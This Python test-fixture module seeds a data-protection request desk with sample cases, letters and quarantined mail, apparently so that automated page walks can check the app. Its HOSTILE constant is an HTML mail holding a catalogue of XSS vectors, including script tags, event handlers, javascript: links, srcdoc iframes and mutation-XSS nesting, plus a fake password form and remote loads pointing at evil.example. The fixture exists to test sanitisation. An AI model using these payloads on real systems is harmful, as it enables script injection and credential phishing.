"""A desk with something of everything: cases in each state and one late, letters, questions, other companies, tasks,
notes, mail set apart, and mail that means harm.
"""

import re
from dataclasses import dataclass, field
from datetime import date

from browser import Browser
from builders import mail, stored
from sqlmodel import select
from story import ANA, BEN, Story
from walk import Filling

from cases.arranging import add_task, assign, finish_task, tag, tasks_of, write_note
from cases.asking import ask, identify
from cases.blocking import Block, block
from cases.deciding import answer, close, decide
from cases.deleting import ask_deletion
from cases.directory import customer_named, import_customers
from cases.forwarding import forward
from models.case import Identity, ItemResult
from models.casework import PauseReason
from models.deletion import DeletionGround
from models.files import FileSort
from models.letter import Enclosure, Proof
from models.message import Message, Outcome
from models.outbox import Template
from models.verdict import Doubt, Kind, Label

ELSEWHERE = "https://evil.example"
HOSTILE = f"""<html><head>
<base href="{ELSEWHERE}/base/"><meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">
<link rel="stylesheet" href="{ELSEWHERE}/sheet.css"><script src="{ELSEWHERE}/script.js"></script>
<style>@import url({ELSEWHERE}/import.css); body {{ background: url({ELSEWHERE}/css.png); }}
main, header, nav {{ display: none !important; }}</style></head>
<body style="background:url({ELSEWHERE}/style.png)" onload="document.title='harmed'">
<script>document.title='harmed';alert(1)</script>
<div style="position:fixed;inset:0;z-index:99999;background:red">This covers the page</div>
<p>Please erase all you hold about me.</p>
<img src="{ELSEWHERE}/pixel.png" onerror="document.title='harmed'"><img src=x onerror="document.title='harmed'">
<svg onload="document.title='harmed'"><script>document.title='harmed'</script><image href="{ELSEWHERE}/i.png"/></svg>
<iframe src="{ELSEWHERE}/frame" srcdoc="<script>top.document.title='harmed'</script>"></iframe>
<object data="{ELSEWHERE}/object.swf"></object><embed src="{ELSEWHERE}/embed"><video src="{ELSEWHERE}/v" autoplay></video>
<form action="{ELSEWHERE}/form"><input name="password"><button autofocus onfocus="document.title='harmed'">Log in</button></form>
<a href="javascript:document.title='harmed'">press here</a>
<a href="data:text/html,<script>alert(1)</script>">or here</a><a href="{ELSEWHERE}/link" ping="{ELSEWHERE}/ping">or there</a>
<math><mtext><table><mglyph><style><img src=x onerror="document.title='harmed'"></style></mglyph></table></mtext></math>
</body></html>"""
WIDE = f"{'X' * 200} <mallory@postbag.example>"
"""A sender, as a stranger writes it, without a place to break."""
LONG = (
    "<sehr.lange.adresse.ohne.ende.und.ohne.trennung.damit.nichts.passt@unterabteilung.beispiel-gesellschaft.example>"
)


@dataclass
class Populated:
    """What there is, by what it is for."""

    cases: dict[str, str] = field(default_factory=dict)
    hostile_mail: int = 0
    quarantined: int = 0
    shared: str = ""
    """The page of figures that somebody made a link to."""

    @property
    def filling(self) -> Filling:
        """How the parameters of pages are filled. For a new page with parameters, name addresses here."""
        mails = (1, self.hostile_mail, self.quarantined)
        return {
            "/cases/{reference}": [f"/cases/{reference}" for reference in self.cases.values()],
            "/cases/{reference}/redact": [
                f"/cases/{self.cases[name]}/redact" for name in ("rich", "late") if name in self.cases
            ],
            "/mail/{number}": [f"/mail/{number}" for number in mails],
            "/letters/{number}": ["/letters/1", "/letters/4"],
            "/admin/letters/{name}": ["/admin/letters/answer", "/admin/letters/identity_question?language=de"],
            "/admin/people/{number}": ["/admin/people/1"],
            "/bulk/{number}": ["/bulk/1", "/bulk/2", "/bulk/3", "/bulk/4"],
            "/shared/{secret}": [self.shared] if self.shared else [],
            # Files, pictures, and what a mail looks like in its frame: no pages of the desk.
            "/mail/{number}/html": [],
            "/mail/{number}/raw": [],
            "/mail/{number}/attachments/{position}": [],
            "/letters/{number}/html": [],
            "/letters/{number}/raw": [],
            "/letters/{number}/attachments/{position}": [],
            "/cases/{reference}/person/files/{number}": [],
            "/dashboard/chart/{name}.svg": [],
            "/shared/{secret}/chart/{name}.svg": [],
        }


NOTHING: Filling = {path: [] for path in Populated().filling}
"""How they are filled where there is nothing yet."""


def populate(story: Story) -> Populated:
    """Let a spring happen at a desk; it ends on 20 May 2026."""
    found = Populated()
    for name, happen in _EPISODES.items():
        found.cases[name] = happen(story)
        story.post()
    raw = mail("", sender=WIDE, subject="<script>document.title='harmed'</script>" + "W" * 300, html=HOSTILE)
    found.cases["hostile"], found.hostile_mail = _receive(story, raw)
    found.quarantined = _set_apart(story)
    _block(story)
    story.at("2026-05-20")
    return found


def choose_many(sitting: Browser, cases: dict[str, str]) -> None:
    """Let somebody plan deeds on many cases, and do one of them: what `/bulk/{number}` shows."""
    csrf, chosen = sitting.get("/").hidden("csrf"), list(cases.values())
    words = {"letter": "information", "text": "We have moved.", "language": "en"}
    plan = sitting.post("/bulk/plan", csrf=csrf, deed="letter", cases=" ".join(chosen[:4]), **words).goes_to
    sitting.post(plan, csrf=csrf)
    sitting.post("/bulk", csrf=csrf, query="", deed="spam", case=chosen)
    sitting.post("/bulk/plan", csrf=csrf, deed="letter", cases=" ".join(chosen), **words)
    sitting.post("/bulk", csrf=csrf, query="", deed="merge", case=chosen)


def make_hook(sitting: Browser) -> None:
    """Let an administrator make a web hook."""
    csrf = sitting.get("/webhooks/hook").hidden("csrf")
    sitting.post("/webhooks/hook", csrf=csrf, name="crm", url="https://crm.example/hooks/rightsdesk")


def share_figures(sitting: Browser) -> str:
    """Let a manager make a link to the figures; return where it leads."""
    words = {"name": "Board, autumn meeting", "shows": "moving"}
    page = sitting.get("/dashboard/links")
    expires = re.search(r'name="expires"[^>]* value="([^"]+)"', page.text)
    assert expires
    made = sitting.post("/dashboard/links", csrf=page.hidden("csrf"), expires=expires[1], **words)
    told = re.search(r'value="http://[^/]+(/shared/[^"]+)"', made.text)
    assert told
    return told[1]


def _block(story: Story) -> None:
    with story.database.transaction() as session:
        asked = Block("advertisements.example", "the same every week", date(2026, 5, 1))
        block(session, story.audit, story.mailbox.organisation, asked, (), story.now, "ana")


def _late(story: Story) -> str:
    files, scores = (FileSort.PDF, FileSort.IDENTITY), {Label.ACCESS: 0.97, Label.PORTABILITY: 0.55}
    words = "Send me my data, please."
    story.at("2026-03-02")
    return story.receives(Label.ACCESS, Label.PORTABILITY, text=words, scores=scores, files=files)


def _closed(story: Story) -> str:
    case = _answered(story, "2026-03-09", "carla@postbag.example")
    story.at("2026-03-20").does(BEN, case, close)
    why = f"She wants the record of it gone, too. {LONG}"
    story.at("2026-05-20").does(BEN, case, lambda o: ask_deletion(o, DeletionGround.PERSON_ASKS, why))
    story.does(ANA, case, lambda o: tag(o, add=("court",)))
    return case


def _answered(story: Story, day: str = "2026-05-04", sender: str = "amir@postbag.example") -> str:
    case = story.at(day).receives(Label.ERASURE, sender=sender, text="Delete my account.")
    story.post()
    story.does(ANA, case, lambda o: identify(o, Identity.CONFIRMED, level=2, method="reply", why="wrote from it"))
    story.does(ANA, case, lambda o: decide(o, Kind.ERASURE, ItemResult.NO_DATA))
    story.does(ANA, case, lambda o: answer(o, Template.NO_DATA))
    story.post()
    return case


def _waiting(story: Story) -> str:
    case = story.at("2026-05-11").receives(
        Label.RECTIFICATION, sender="wanda@postbag.example", text="My name is wrong."
    )
    story.post()
    story.does(ANA, case, lambda o: ask(o, PauseReason.IDENTITY, why="unknown address", proofs=[Proof.CODE]))
    return case


def _review(story: Story) -> str:
    return story.at("2026-05-12").receives(
        Label.COMPLAINT, doubt=Doubt.REQUEST, sender="rosa@postbag.example", text="I am cross."
    )


def _marketing(story: Story) -> str:
    case = story.at("2026-05-18").receives(
        Label.OBJECTION_MARKETING, sender="mo@postbag.example", text="No more of it."
    )
    story.bounce(story.post()[-1])
    return case


def _again(story: Story) -> str:
    return story.receives(Label.ERASURE, sender="mo@postbag.example", text="And delete my account.")


def _rich(story: Story) -> str:
    with story.database.transaction() as session:
        rows = [{"name": "Stride Fitness", "domains": "stride.example", "administrator": "dpo@stride.example"}]
        import_customers(session, story.mailbox.organisation.slug, rows)
    words = f"Stride Fitness uses you. {'Nochsolangeworte' * 12} {LONG}\n\n> quoted\n\n-- \nRich"
    case = story.at("2026-05-13").receives(Label.ERASURE, Label.ACCESS, sender="rich@postbag.example", text=words)
    story.post()
    story.does(BEN, case, lambda o: assign(o, "ana"))
    story.does(ANA, case, lambda o: tag(o, add=("press", "vip")))
    story.does(ANA, case, lambda o: write_note(o, story.vault, f"Rang twice. {LONG}\n\nCall back after five."))
    story.does(ANA, case, lambda o: add_task(o, "ask accounts"))
    story.does(ANA, case, lambda o: finish_task(o, tasks_of(o)[0].id or 0))
    story.does(ANA, case, _pass_on)
    return case


def _pass_on(office) -> None:  # type: ignore[no-untyped-def]
    customer = customer_named(office.session, office.case.organisation, "Stride Fitness")
    forward(office, customer, [Enclosure("request-1.eml", b"From: rich\r\n\r\nplease")])


_EPISODES = {
    "late": _late,
    "closed": _closed,
    "answered": _answered,
    "waiting": _waiting,
    "review": _review,
    "rich": _rich,
    "marketing": _marketing,
    "again": _again,
}


def _receive(story: Story, raw: bytes) -> tuple[str, int]:
    """Let a mail come in whose bytes are these; return its case and its number."""
    case = story.at("2026-05-19").receives(Label.ERASURE, sender="mallory@postbag.example")
    with story.database.transaction() as session:
        message = session.exec(select(Message).where(Message.uid == story.count)).one()
        message.sealed_id = story.vault.keep(session, raw)
        return case, message.id or 0


def _set_apart(story: Story) -> int:
    story.count += 1
    with story.database.transaction() as session:
        reason = "could not be handled: more parts than any mail has"
        message = stored(story.count, story.now, outcome=Outcome.QUARANTINE, reason=reason)
        message.sealed_id = story.vault.keep(session, mail("", html=HOSTILE))
        session.add(message)
        session.flush()
        return message.id or 0
